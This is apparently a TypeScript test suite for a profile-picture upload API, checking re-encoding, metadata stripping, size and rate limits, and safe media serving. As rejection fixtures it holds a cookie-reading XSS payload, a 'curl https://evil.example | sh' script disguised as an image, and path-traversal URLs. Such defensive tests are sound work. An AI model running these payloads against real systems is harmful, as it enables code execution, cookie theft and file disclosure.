import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { signUpVerifyAndSignIn } from '../../../../tests/helpers/accounts';
import type { TestClient } from '../../../../tests/helpers/http-client';
import { multipartBody, rawRequest } from '../../../../tests/helpers/raw-request';
import { ENGINES } from '../../../../tests/helpers/test-databases';
import {
  PICTURE_SUITES,
  startPictureBackend,
  type PictureBackend,
} from '../../../../tests/helpers/picture-backends';
import { startTestServer, type TestServer } from '../../../../tests/helpers/test-server';
import { MAX_PICTURE_BYTES } from './picture-upload';
import { sniffImageFormat } from './picture.service';
import {
  jpegOfExactSize,
  jpegWithGpsExif,
  sidewaysJpeg,
  solidImage,
} from '../../../../tests/helpers/test-images';

const MB10 = 10 * 1024 * 1024;

function upload(
  server: TestServer,
  as: TestClient | undefined,
  file: { name: string; type: string; bytes: Buffer },
) {
  const { body, contentType } = multipartBody('file', file);
  return rawRequest(server.base, '/api/profile/picture', {
    as,
    headers: { 'content-type': contentType },
    body,
  });
}

describe('sniffImageFormat', () => {
  it('knows the four accepted formats by their first bytes, and nothing else', async () => {
    expect(sniffImageFormat(await solidImage(4, 4).jpeg().toBuffer())).toBe('jpeg');
    expect(sniffImageFormat(await solidImage(4, 4).png().toBuffer())).toBe('png');
    expect(sniffImageFormat(await solidImage(4, 4).webp().toBuffer())).toBe('webp');
    expect(sniffImageFormat(await solidImage(4, 4).gif().toBuffer())).toBe('gif');
    expect(sniffImageFormat(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeNull();
    expect(sniffImageFormat(Buffer.from('<!doctype html><p>hi'))).toBeNull();
    expect(sniffImageFormat(Buffer.from('RIFF\0\0\0\0WAVE'))).toBeNull();
    expect(sniffImageFormat(Buffer.alloc(0))).toBeNull();
  });
});

describe.each(PICTURE_SUITES)(
  'POST /api/profile/picture on %s, pictures on %s',
  (engine, driver) => {
    let server: TestServer;
    let backend: PictureBackend;
    beforeEach(async () => {
      backend = await startPictureBackend(driver);
    });
    afterEach(async () => {
      await server.close();
      await backend.stop();
    });
    /** What the store holds, seen on disk or through the S3 API, not through the server. */
    const storedNames = () => backend.storedNames(server.config.dataDir);
    const start = (env: Record<string, string> = {}) =>
      startTestServer(engine, { ...backend.env, ...env });

    it('answers 401 when signed out, without storing anything', async () => {
      server = await start();
      const png = await solidImage(64, 64).png().toBuffer();
      const response = await upload(server, undefined, {
        name: 'me.png',
        type: 'image/png',
        bytes: png,
      });
      expect(response.status).toBe(401);
      expect(response.json()).toMatchObject({ error: { code: 'unauthenticated' } });
      expect(await storedNames()).toEqual([]);
    });

    it('re-encodes to a 512x512 WebP without EXIF or GPS, served from /media', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const photo = await jpegWithGpsExif();
      const input = await sharp(photo).metadata();
      expect(input.exif?.toString('latin1')).toContain('Location Leaker');
      // The GPS IFD pointer tag (0x8825), in the EXIF block's own byte order.
      const littleEndian = input.exif?.subarray(6, 8).toString('latin1') === 'II';
      const gpsTag = Buffer.from(littleEndian ? [0x25, 0x88] : [0x88, 0x25]);
      expect(input.exif?.includes(gpsTag)).toBe(true);

      const response = await upload(server, learner, {
        name: 'dhaka.jpg',
        type: 'image/jpeg',
        bytes: photo,
      });
      expect(response.status).toBe(201);
      const { url } = response.json<{ url: string }>();
      expect(url).toMatch(/^\/media\/[0-9a-f-]{36}\.webp$/);
      expect(await storedNames()).toEqual([path.basename(url)]);

      const media = await learner.get(url);
      expect(media.status).toBe(200);
      expect(media.headers['content-type']).toBe('image/webp');
      expect(media.headers['x-content-type-options']).toBe('nosniff');
      expect(media.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      const stored = await rawRequest(server.base, url, { method: 'GET' });
      const output = await sharp(stored.body).metadata();
      expect(output).toMatchObject({ format: 'webp', width: 512, height: 512 });
      expect(output.exif).toBeUndefined();
      expect(output.xmp).toBeUndefined();
      expect(output.icc).toBeUndefined();
      expect(stored.body.includes(Buffer.from('Location Leaker'))).toBe(false);

      // The upload alone does not change the profile: only Save Changes (PUT) does.
      expect((await learner.get('/api/profile')).json()).toMatchObject({ profilePictureUrl: null });
      const saved = await learner.request('PUT', '/api/profile', { profilePictureUrl: url });
      expect(saved.json()).toMatchObject({ profilePictureUrl: url });
    });

    it('turns a picture upright by its EXIF orientation before cropping', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const response = await upload(server, learner, {
        name: 'sideways.jpg',
        type: 'image/jpeg',
        bytes: await sidewaysJpeg(),
      });
      expect(response.status).toBe(201);
      const stored = await rawRequest(server.base, response.json<{ url: string }>().url, {
        method: 'GET',
      });
      const { data, info } = await sharp(stored.body).raw().toBuffer({ resolveWithObject: true });
      const pixel = (x: number, y: number) => {
        const at = (y * info.width + x) * info.channels;
        return { red: data[at] ?? 0, blue: data[at + 2] ?? 0 };
      };
      expect(pixel(256, 40).red).toBeGreaterThan(150); // top: red
      expect(pixel(256, 470).blue).toBeGreaterThan(150); // bottom: blue
    });

    it('accepts PNG, WebP and GIF as well', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      for (const [type, bytes] of [
        ['image/png', await solidImage(300, 200).png().toBuffer()],
        ['image/webp', await solidImage(200, 300).webp().toBuffer()],
        ['image/gif', await solidImage(100, 100).gif().toBuffer()],
      ] as const) {
        const response = await upload(server, learner, { name: 'pic', type, bytes });
        expect(response.status, type).toBe(201);
      }
    });

    it('accepts a picture of exactly 10 MB', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const bytes = await jpegOfExactSize(MB10);
      expect(bytes.length).toBe(MAX_PICTURE_BYTES);
      const response = await upload(server, learner, {
        name: 'big.jpg',
        type: 'image/jpeg',
        bytes,
      });
      expect(response.status).toBe(201);
      const stored = await learner.get(response.json<{ url: string }>().url);
      expect(stored.status).toBe(200);
    });

    it('answers 413 for 10 MB + 1 byte, and for a larger body however it is sent', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const tooLarge = await upload(server, learner, {
        name: 'big.jpg',
        type: 'image/jpeg',
        bytes: await jpegOfExactSize(MB10 + 1),
      });
      expect(tooLarge.status).toBe(413);
      expect(tooLarge.json()).toEqual({
        error: {
          code: 'payload_too_large',
          message: 'The picture is larger than 10 MB. Choose a smaller one.',
        },
      });

      // A declared Content-Length over the limit is refused before the body is read.
      const { body, contentType } = multipartBody('file', {
        name: 'huge.jpg',
        type: 'image/jpeg',
        bytes: await jpegOfExactSize(MB10 + 200 * 1024),
      });
      const declared = await rawRequest(server.base, '/api/profile/picture', {
        as: learner,
        headers: { 'content-type': contentType },
        body,
      });
      expect(declared.status).toBe(413);

      // No Content-Length at all (chunked): counted while streaming, stopped past the limit.
      const chunks = function* () {
        for (let offset = 0; offset < body.length; offset += 256 * 1024) {
          yield body.subarray(offset, offset + 256 * 1024);
        }
        // 10 GB more: the test only finishes if the server stops reading and answers early.
        for (let extra = 0; extra < 40_000; extra += 1) yield Buffer.alloc(256 * 1024);
      };
      const streamed = await rawRequest(server.base, '/api/profile/picture', {
        as: learner,
        headers: { 'content-type': contentType, 'transfer-encoding': 'chunked' },
        chunks: chunks(),
      });
      expect(streamed.status).toBe(413);
      expect(streamed.json()).toMatchObject({ error: { code: 'payload_too_large' } });
      expect(await storedNames()).toEqual([]);
    });

    it('answers 400 invalid_image for HTML, SVG, a script or a damaged picture sent as image/png', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const png = await solidImage(64, 64).png().toBuffer();
      const impostors: [string, Buffer][] = [
        [
          'html',
          Buffer.from('<!doctype html><html><script>alert(document.cookie)</script></html>'),
        ],
        [
          'svg',
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
          ),
        ],
        ['script', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
        ['truncated png', png.subarray(0, 40)],
        ['png header then html', Buffer.concat([png.subarray(0, 8), Buffer.from('<html></html>')])],
      ];
      for (const [label, bytes] of impostors) {
        const response = await upload(server, learner, {
          name: 'me.png',
          type: 'image/png',
          bytes,
        });
        expect(response.status, label).toBe(400);
        expect(response.json<{ error: { code: string } }>().error.code, label).toBe(
          'invalid_image',
        );
      }
      expect(await storedNames()).toEqual([]);
    });

    it('answers 400 when the request is not a multipart upload of a field named file', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const json = await learner.post('/api/profile/picture', { file: 'abc' });
      expect(json.status).toBe(400);
      expect(json.json()).toMatchObject({ error: { code: 'invalid_input' } });
      const png = await solidImage(64, 64).png().toBuffer();
      const { body, contentType } = multipartBody('picture', {
        name: 'me.png',
        type: 'image/png',
        bytes: png,
      });
      const wrongField = await rawRequest(server.base, '/api/profile/picture', {
        as: learner,
        headers: { 'content-type': contentType },
        body,
      });
      expect(wrongField.status).toBe(400);
      expect(wrongField.json()).toMatchObject({ error: { code: 'invalid_input' } });
    });

    it('limits uploads per learner: the 21st in an hour is 429 with Retry-After', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const png = await solidImage(8, 8).png().toBuffer();
      const file = { name: 'me.png', type: 'image/png', bytes: png };
      for (let attempt = 1; attempt <= 20; attempt++) {
        const response = await upload(server, learner, file);
        expect(response.status, `upload ${attempt}`).toBe(201);
      }
      const limited = await upload(server, learner, file);
      expect(limited.status).toBe(429);
      expect(limited.json()).toEqual({
        error: {
          code: 'rate_limited',
          message: expect.stringMatching(/uploaded many pictures.*try again in \d+ minutes?/),
        },
      });
      const retryAfter = Number(limited.headers['retry-after']);
      expect(retryAfter).toBeGreaterThan(3500);
      expect(retryAfter).toBeLessThanOrEqual(3600);
      // The refused upload stored nothing; the limit is this learner's, not everybody's.
      expect(await storedNames()).toHaveLength(20);
      const other = await signUpVerifyAndSignIn(server, 'rahim@example.com', {
        localAddress: '127.0.0.2',
      });
      expect((await upload(server, other, file)).status).toBe(201);
    });

    it('deletes the previous picture when a new one is saved, and only the learner’s own', async () => {
      server = await start();
      const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
      const stored = async (url: string) => (await storedNames()).includes(path.basename(url));
      const newPicture = async (as: TestClient) => {
        const png = await solidImage(16, 16).png().toBuffer();
        const response = await upload(server, as, {
          name: 'me.png',
          type: 'image/png',
          bytes: png,
        });
        expect(response.status).toBe(201);
        return response.json<{ url: string }>().url;
      };
      const savePicture = async (as: TestClient, url: string | null) => {
        const response = await as.request('PUT', '/api/profile', { profilePictureUrl: url });
        expect(response.status, response.text).toBe(200);
      };

      const first = await newPicture(learner);
      await savePicture(learner, first);
      const second = await newPicture(learner);
      expect((await stored(first)) && (await stored(second))).toBe(true);
      await savePicture(learner, second);
      expect(await stored(first)).toBe(false);
      expect((await learner.get(first)).status).toBe(404);
      expect((await learner.get(second)).status).toBe(200);
      // Saving the profile again with the same picture keeps it.
      await savePicture(learner, second);
      expect(await stored(second)).toBe(true);
      // Removing the picture from the profile deletes it too.
      await savePicture(learner, null);
      expect(await stored(second)).toBe(false);

      // A picture that another learner's profile shows is not deleted, nor one that is not theirs.
      const third = await newPicture(learner);
      await savePicture(learner, third);
      const other = await signUpVerifyAndSignIn(server, 'rahim@example.com', {
        localAddress: '127.0.0.2',
      });
      await savePicture(other, third);
      await savePicture(learner, await newPicture(learner));
      expect(await stored(third)).toBe(true);
      await savePicture(other, await newPicture(other));
      expect(await stored(third)).toBe(true);
    });

    it('serves only stored pictures from /media, by strict name', async () => {
      server = await start();
      await backend.plant(server.config.dataDir, 'secret.txt', 'do not serve');
      for (const bad of [
        '/media/0f8fad5b-d9cb-469f-a165-70867728950e.webp',
        '/media/secret.txt',
        '/media/..%2Fsecret.txt',
        '/media/%2e%2e%2fshikhon.sqlite',
        '/media/0F8FAD5B-D9CB-469F-A165-70867728950E.webp',
      ]) {
        const response = await rawRequest(server.base, bad, { method: 'GET' });
        expect(response.status, bad).toBe(404);
        expect(response.text).not.toContain('do not serve');
      }
    });
  },
);

describe('GET /media with S3_PUBLIC_URL', () => {
  let server: TestServer | undefined;
  let backend: PictureBackend;
  beforeEach(async () => {
    backend = await startPictureBackend('s3');
  });
  afterEach(async () => {
    await server?.close();
    server = undefined;
    await backend.stop();
  });
  const storedNames = () => backend.storedNames(server?.config.dataDir ?? '');
  const start = (env: Record<string, string>) =>
    startTestServer(ENGINES[ENGINES.length - 1] ?? 'sqlite', { ...backend.env, ...env });

  it('keeps /media URLs and sends browsers on to the bucket for the bytes', async () => {
    const bucketUrl = `${backend.s3?.endpoint}/${backend.s3?.bucket}`;
    server = await start({ S3_PUBLIC_URL: `${bucketUrl}/` });
    const learner = await signUpVerifyAndSignIn(server, 'nusrat@example.com');
    const png = await solidImage(64, 64).png().toBuffer();
    const response = await upload(server, learner, {
      name: 'me.png',
      type: 'image/png',
      bytes: png,
    });
    expect(response.status).toBe(201);
    const { url } = response.json<{ url: string }>();
    // The profile stores the same URL whatever the store: moving the bucket changes no row.
    expect(url).toMatch(/^\/media\/[0-9a-f-]{36}\.webp$/);
    const saved = await learner.request('PUT', '/api/profile', { profilePictureUrl: url });
    expect(saved.json()).toMatchObject({ profilePictureUrl: url });

    const media = await rawRequest(server.base, url, { method: 'GET' });
    expect(media.status).toBe(302);
    expect(media.headers.location).toBe(`${bucketUrl}/${path.basename(url)}`);
    const fromBucket = await fetch(media.headers.location ?? '');
    expect(fromBucket.status).toBe(200);
    const output = await sharp(Buffer.from(await fromBucket.arrayBuffer())).metadata();
    expect(output).toMatchObject({ format: 'webp', width: 512, height: 512 });
    // In the bucket, nothing on this instance's disk; pages may show images from the
    // bucket's origin.
    expect(await storedNames()).toEqual([path.basename(url)]);
    expect(fs.existsSync(path.join(server.config.dataDir, 'media'))).toBe(false);
    const page = await rawRequest(server.base, '/', { method: 'GET' });
    expect(page.headers['content-security-policy']).toContain(
      `img-src 'self' data: blob: ${backend.s3?.endpoint};`,
    );
    // A name that is not a picture's is still answered here, never redirected.
    const bad = await rawRequest(server.base, '/media/secret.txt', { method: 'GET' });
    expect(bad.status).toBe(404);
  });
});
